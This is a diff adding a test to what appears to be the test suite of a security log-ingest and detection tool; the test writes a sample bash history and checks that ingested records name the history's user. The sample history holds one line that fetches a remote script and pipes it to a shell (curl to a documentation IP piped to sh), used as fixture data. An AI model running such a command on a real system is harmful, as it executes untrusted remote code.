@@ -316,6 +316,20 @@ d('the detection service (rules run --once/--every) and ingest detection', () =>
     expect(await lease(ns)).toEqual({ holder: 'standby-b', live: false }); // SIGTERM gives it up
   }, 150_000);
 
+  it('ingest of a bash history says where its user came from (text and --json), as the records do', async () => {
+    const hist = path.join(dir, 'bash_history');
+    fs.writeFileSync(hist, '#1700000000\nls -la\n#1700000005\ncurl -fsSL http://203.0.113.9/x.sh | sh\n');
+    const owner = (await import('node:os')).userInfo().username;
+    const text = await runCli(['ingest', hist, '--format', 'bash', '--stdout']);
+    expect(text.code).toBe(0);
+    const recs = text.stdout.trim().split('\n').map((l) => JSON.parse(l) as { user?: { name?: string }; auditkit?: { history?: { user_from?: string } } });
+    expect(recs.map((r) => [r.user?.name, r.auditkit?.history?.user_from])).toEqual([[owner, 'owner'], [owner, 'owner']]);
+    expect(text.stderr).toContain(`history ${hist}: user ${owner}, from the file's owner`);
+    const json = await runCli(['ingest', hist, '--format', 'bash', '--stdout', '--json']);
+    expect(json.code).toBe(0);
+    expect(JSON.parse(json.stderr.trim().split('\n').pop() as string)).toMatchObject({ parsed: 2, history_users: [{ file: hist, user: owner, from: 'owner' }] });
+  }, 60_000);
+
   it('ingest raises the alerts of a backfilled legacy log (and the day\'s report lists them); --no-rules raises none', async () => {
     const log = path.join(dir, 'legacy.log');
     const line = (sec: number, cmd: string): string => `[2026-11-22 10:00:${String(sec).padStart(2, '0')}] [(root) alice pts/0 10.0.0.5] [web01@10.0.0.21] ${cmd}`;
